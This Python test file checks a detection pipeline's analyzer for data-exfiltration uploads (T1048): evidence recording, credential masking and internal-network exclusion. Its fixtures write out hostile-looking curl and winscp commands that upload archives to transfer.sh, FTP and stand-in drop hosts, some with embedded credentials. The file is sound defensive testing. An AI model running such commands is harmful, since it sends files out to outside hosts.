"""The analyzer as the pipeline's first processor: what it keeps, what it records on the hit, and where the
internal networks come from (the admin setting, and the console's network hierarchy over the REST API)."""
from __future__ import annotations

import pytest

from app.detection.rule import RuleError, load_rules, parse_rule
from app.pipeline.analysis import INTERNAL_SETTING, CommandLineAnalysis, validate_internal
from app.pipeline.hit import hits_from_rows
from app.store import Store
from devtools.appenv import app_runtime
from devtools.coverage import BUNDLED
from devtools.simproc import SimProcess


def rows(*lines):
    return [{"ew_time": 1000 + n, "ew_sourceip": "10.20.1.5", "ew_command_line": cl, "ew_process_image": image,
             "ew_original_file_name": ofn} for n, (cl, image, ofn) in enumerate(lines)]


@pytest.fixture
def store(tmp_path):
    s = Store(str(tmp_path / "a.db"))
    yield s
    s.close()


def test_keeps_uploads_of_its_technique_and_records_how_they_were_read(store):
    rules = load_rules()
    hits = hits_from_rows("t1048-002-web-upload", rows(
        ("curl.exe -sST C:\\x\\a.7z https://transfer.sh/a", "curl.exe", None),
        ("curl.exe -sSLo C:\\x\\a.zip https://download.example.org/a.zip", "curl.exe", None),
        ("curl.exe -T C:\\x\\a.7z ftp://203.0.113.9/in/", "curl.exe", None),
        ("curl.exe -T C:\\x\\a.7z https://10.10.50.40/in/", "curl.exe", None),
        ("C:\\ProgramData\\u.exe --upload-file C:\\x\\a.7z https://drop.example.net/", "u.exe", "curl.exe"),
    ))
    CommandLineAnalysis(store.settings)(rules["t1048-002-web-upload"], hits, None)
    assert [h.command_line.split()[1] for h in hits] == ["-sST", "--upload-file"]
    analysis = hits[0].enrichment["analysis"]["decided_by"]
    assert analysis["technique"] == "T1048.002" and analysis["host"] == "transfer.sh"
    assert {"argument": "-sST C:\\x\\a.7z", "read_as": "--upload-file: uploads the file C:\\x\\a.7z"} in analysis["evidence"]
    plain = hits_from_rows("t1048-003-plaintext-upload", rows(("curl.exe -T C:\\x\\a.7z ftp://203.0.113.9/in/", "curl.exe", None),
                                                              ("curl.exe -T C:\\x\\a.7z https://203.0.113.9/in/", "curl.exe", None)))
    CommandLineAnalysis(store.settings)(rules["t1048-003-plaintext-upload"], plain, None)
    assert [h.enrichment["analysis"]["decided_by"]["scheme"] for h in plain] == ["ftp"]


def test_credentials_in_the_arguments_are_masked_in_what_is_recorded(store):
    rule = load_rules()["t1048-002-web-upload"]
    hits = hits_from_rows(rule.id, rows(
        ('winscp.com /command "open sftp://drop:Wq8zT3x@drop.example.net/" "put C:\\x\\a.zip /in/"', "winscp.com", None),
        ("curl.exe -u svc:S3cr3tT0k -T C:\\x\\a.zip https://svc:S3cr3tT0k@drop.example.net/in/", "curl.exe", None)))
    CommandLineAnalysis(store.settings)(rule, hits, None)
    assert len(hits) == 2
    for hit in hits:
        recorded = str(hit.enrichment["analysis"])
        assert "Wq8zT3x" not in recorded and "S3cr3tT0k" not in recorded and "********" in recorded


def test_rules_without_an_analyzer_table_pass_untouched(store):
    hits = hits_from_rows("t1048-002-seed", rows(("curl.exe -O https://download.example.org/a.zip", "curl.exe", None)))
    CommandLineAnalysis(store.settings)(load_rules()["t1048-002-seed"], hits, None)
    assert len(hits) == 1 and "analysis" not in hits[0].enrichment


def test_declared_networks_domains_and_the_console_hierarchy_are_internal(store):
    rule = load_rules()["t1048-002-web-upload"]
    lines = (("curl.exe -T f https://203.0.113.9/in/", "curl.exe", None),
             ("curl.exe -T f https://files.example-corp.com/in/", "curl.exe", None),
             ("curl.exe -T f https://198.51.100.230/in/", "curl.exe", None))
    analysis = CommandLineAnalysis(store.settings, hierarchy=lambda: ["198.51.100.224/28"])
    hits = hits_from_rows(rule.id, rows(*lines))
    analysis(rule, hits, None)
    assert len(hits) == 2
    store.settings.set(INTERNAL_SETTING, {"networks": ["203.0.113.0/24"], "domains": ["example-corp.com"]},
                       actor="admin", now_ms=1)
    hits = hits_from_rows(rule.id, rows(*lines))
    analysis(rule, hits, None)
    assert hits == []


def test_a_broken_hierarchy_or_setting_never_stops_detection(store):
    rule = load_rules()["t1048-002-web-upload"]

    def refuses():
        raise OSError("console down")
    store.settings.set(INTERNAL_SETTING, {"networks": ["not-a-cidr"]}, actor="admin", now_ms=1)
    hits = hits_from_rows(rule.id, rows(("curl.exe -T f https://203.0.113.9/in/", "curl.exe", None)))
    CommandLineAnalysis(store.settings, hierarchy=refuses)(rule, hits, None)
    assert len(hits) == 1
    assert validate_internal({"networks": ["not-a-cidr"], "domains": ["a b"], "loopback_internal": "yes"}) == [
        "not a network: 'not-a-cidr'", "not a domain suffix: 'a b'", "loopback_internal must be true or false"]


def test_the_seed_rule_cannot_get_an_analyzer_and_keep_must_be_a_technique():
    import tomllib
    from app.detection.rule import RULES_DIR
    seed = tomllib.loads((RULES_DIR / "t1048-002-seed.toml").read_text())
    with pytest.raises(RuleError, match="seed rule stays pure AQL"):
        parse_rule(dict(seed, analyzer={"keep": "T1048.002"}), "seed.toml")
    web = tomllib.loads((RULES_DIR / "t1048-002-web-upload.toml").read_text())
    with pytest.raises(RuleError, match="keep must be one of"):
        parse_rule(dict(web, analyzer={"keep": "T1567"}), "web.toml")


def test_the_runtime_reads_the_consoles_network_hierarchy_over_rest(tmp_path):
    with SimProcess(events=str(BUNDLED / "events-seed.jsonl"), tls_dir=str(tmp_path / "tls")) as sim:
        runtime = app_runtime(sim, str(tmp_path / "app"))
        try:
            assert "198.51.100.224/28" in runtime.network_hierarchy()
        finally:
            runtime.store.close()
    with SimProcess(empty=True, tls_dir=str(tmp_path / "tls2")) as sim:
        runtime = app_runtime(sim, str(tmp_path / "app2"))
        try:
            assert runtime.network_hierarchy() == []
        finally:
            runtime.store.close()
